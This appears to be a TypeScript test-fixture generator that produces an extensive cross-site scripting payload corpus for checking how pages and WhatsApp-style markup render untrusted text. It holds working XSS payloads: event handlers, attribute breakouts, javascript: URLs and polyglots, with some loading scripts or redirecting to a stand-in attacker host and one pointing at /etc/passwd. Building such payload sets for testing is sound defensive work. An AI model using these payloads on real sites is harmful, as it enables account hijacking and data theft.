/** What is tried on pages, in every wrapping. Each calls `hit`, or asks for something, wherever it is read as HTML. */
export function xssPayloads(): string[] {
  const bare = [...ELEMENTS, ...ADDRESSES, ...POLYGLOTS];
  const encoded = bare.flatMap((payload) => ENCODINGS.map((encode) => encode(payload)));
  const wrapped = bare.flatMap((payload) => WRAPPINGS.map((wrap) => wrap(payload)));
  const handlers = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=hit(1) tabindex=1 autofocus>x`));
  const inAddresses = [...ELEMENTS, ...BREAKOUTS].flatMap((payload) =>
    ["https://a.example/", "https://", "mailto:a@b.example", "tel:+123456", "@12025550101"].flatMap((before) => [
      before + payload,
      `*${before}${payload}*`,
      before + payload.replaceAll(" ", "/"),
    ]),
  );
  return [...new Set([...encoded, ...wrapped, ...handlers, ...inAddresses])];
}

const TAGS = [
  "a",
  "b",
  "body",
  "button",
  "div",
  "form",
  "img",
  "input",
  "marquee",
  "math",
  "select",
  "svg",
  "video",
  "xss",
];
const HANDLERS = [
  ...["onclick", "onerror", "onload", "onfocus", "onfocusin", "onmouseover", "onpointerenter", "onanimationstart"],
  ...["ontoggle", "onbegin", "onwheel", "onbeforetoggle", "onscrollend", "ontransitionend", "style=x onpageshow"],
];

const ELEMENTS = [
  "<script>hit(1)</script>",
  "<script src=//evil.example/a.js></script>",
  "<img src=x onerror=hit(1)>",
  `<img src="x" onerror="hit(1)"`,
  "<img/src=x/onerror=hit(1)>",
  "<img src=`x`onerror=hit(1)>",
  "<svg onload=hit(1)>",
  "<svg><script>hit(1)</script></svg>",
  "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
  `<svg><use href="data:image/svg+xml,<svg id=x onload=hit(1)>#x">`,
  "<details open ontoggle=hit(1)>x</details>",
  "<input autofocus onfocus=hit(1)>",
  "<video><source onerror=hit(1)></video>",
  "<audio src=x onerror=hit(1)>",
  `<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>`,
  "<iframe src=javascript:parent.hit(1)></iframe>",
  "<object data=javascript:hit(1)></object>",
  "<embed src=//evil.example/a>",
  "<link rel=stylesheet href=//evil.example/a.css>",
  "<style>@import'//evil.example/a.css';</style>",
  "<style onload=hit(1)></style>",
  "<div style=background:url(//evil.example/a)>x</div>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<base href=//evil.example/>",
  "<form action=//evil.example/><button>x",
  "<button formaction=javascript:hit(1) form=f>x</button>",
  "<a href=javascript:hit(1)>x</a>",
  "<a href=//evil.example/ ping=//evil.example/>x</a>",
  "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=hit(1)>",
  `<noscript><p title="</noscript><img src=x onerror=hit(1)>">`,
  "<template><img src=x onerror=hit(1)></template>",
  `<template shadowrootmode="open"><img src=x onerror=hit(1)></template>`,
  "<textarea></textarea><img src=x onerror=hit(1)>",
  "<title></title><img src=x onerror=hit(1)>",
  "<xmp></xmp><img src=x onerror=hit(1)>",
  "<plaintext><img src=x onerror=hit(1)>",
  "<select><option><img src=x onerror=hit(1)></select>",
  "<!--><img src=x onerror=hit(1)>-->",
  "<![CDATA[<img src=x onerror=hit(1)>]]>",
  "<?xml version=1.0?><img src=x onerror=hit(1)>",
  "<portal src=//evil.example/>",
  "<marquee onstart=hit(1)>x</marquee>",
];

/** What leaves an attribute, or the address in it. */
const BREAKOUTS = [
  `"onmouseover="hit(1)`,
  `'onmouseover='hit(1)`,
  `" autofocus onfocus=hit(1) x="`,
  `"><img src=x onerror=hit(1)>`,
  `'><svg onload=hit(1)>`,
  "`onmouseover=hit(1)",
  `&quot;onmouseover=&quot;hit(1)`,
  `&#34;onmouseover=&#34;hit(1)`,
  `%22onmouseover=%22hit(1)`,
  `\u0000"onmouseover="hit(1)`,
  `\\"onmouseover=\\"hit(1)`,
  `\u2028"onmouseover="hit(1)`,
  `"style="background:url(//evil.example/a)`,
  `?x="><script>hit(1)</script>`,
  `#"><script>hit(1)</script>`,
];

const ADDRESSES = [
  "javascript:hit(1)",
  "JaVaScRiPt:hit(1)",
  "java\tscript:hit(1)",
  "java\nscript:hit(1)",
  "java\u0000script:hit(1)",
  "\u0001javascript:hit(1)",
  " javascript:hit(1)",
  "\u200bjavascript:hit(1)",
  "javascript&colon;hit(1)",
  "javascript&#58;hit(1)",
  "javascript://https://a.example/%0ahit(1)",
  "javascript:hit(1)//https://a.example/",
  "data:text/html,<script>hit(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
  "vbscript:hit(1)",
  "file:///etc/passwd",
  "blob:https://a.example/1",
  "view-source:https://a.example/",
  "feed:javascript:hit(1)",
  "https://good.example@evil.example/",
  "https://good.example\\@evil.example/",
  "https:javascript:hit(1)",
  "http://javascript:hit(1)",
  "//evil.example/",
  "[x](javascript:hit(1))",
  "[x](https://a.example/)",
  "![x](//evil.example/a.png)",
  "<https://a.example/>",
  "<javascript:hit(1)>",
];

/** Each breaks out of several places at once. */
const POLYGLOTS = [
  ...BREAKOUTS,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+hit(1)//'>`,
  `"'--></noscript></noembed></template></select></option><img src=x onerror=hit(1)>//`,
  `*/hit(1);/*"onfocus=hit(1) autofocus '><svg/onload=hit(1)>`,
  `\${hit(1)}{{constructor.constructor('hit(1)')()}}<%= hit(1) %>#{hit(1)}`,
  `</div></li></ul></blockquote></pre></code></a></bdi></strong><img src=x onerror=hit(1)>`,
  `</pre>\n</div><script>hit(1)</script>`,
  `<a href="https://a.example/" onclick="hit(1)" target="_self">https://a.example/</a>`,
  `<<script>hit(1);//<</script>`,
  `<scr<script>ipt>hit(1)</scr</script>ipt>`,
  `<img src=x:x onerror\u0000=hit(1)>`,
  `<\u0000script>hit(1)</script>`,
  `<img src=x\u000conerror=hit(1)>`,
  `\ud83d<img src=x onerror=hit(1)>\ude00`,
  `&lt;img src=x onerror=hit(1)&gt;`,
  `&amp;lt;img src=x onerror=hit(1)&amp;gt;`,
  `\\u003cimg src=x onerror=hit(1)\\u003e`,
];

const units = (text: string, each: (code: number) => string) =>
  Array.from(text, (character) => each(character.codePointAt(0) ?? 0)).join("");

const ENCODINGS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.toUpperCase().replaceAll("HIT", "hit"),
  (payload) => units(payload, (code) => `&#${code};`),
  (payload) => units(payload, (code) => `&#x${code.toString(16).padStart(6, "0")}`),
  (payload) => encodeURIComponent(payload.toWellFormed()),
  (payload) => units(payload, (code) => `\\u${code.toString(16).padStart(4, "0")}`),
  // Full width: what a database that folds, or a font, makes the same again.
  (payload) => units(payload, (code) => String.fromCodePoint(code > 0x20 && code < 0x7f ? code + 0xfee0 : code)),
  (payload) => payload.replaceAll("<", "<\u0000").replaceAll(" ", "\u0000"),
  (payload) => payload.replaceAll(" ", "\n"),
  (payload) => payload.replaceAll("<", "\ufeff<").replaceAll(">", ">\u202e"),
];

/** What WhatsApp reads as markup, around them and cut through by them. */
const WRAPPINGS: readonly ((payload: string) => string)[] = [
  ...["*", "_", "~", "`", "```", "```\n", "*_~", '"', "'", "("].map((marker) => (payload: string) => {
    const closing = Array.from(marker).reverse().join("");
    return marker + payload + closing;
  }),
  ...["- ", "* ", "1. ", "> ", "*", "`", "```", "a\n> *", "- `", "https://a.example/ "].map(
    (before) => (payload: string) => before + payload,
  ),
  (payload) => `${payload}*`,
  (payload) => `*${payload.slice(0, 3)}_${payload.slice(3)}*_`,
  (payload) => `\`${payload.slice(0, 5)}\`${payload.slice(5)}`,
  (payload) => payload.replaceAll("<", "*<").replaceAll(">", ">*"),
  (payload) => payload.replaceAll(" ", " *x* "),
  (payload) => payload.replaceAll("=", "=`x`"),
];
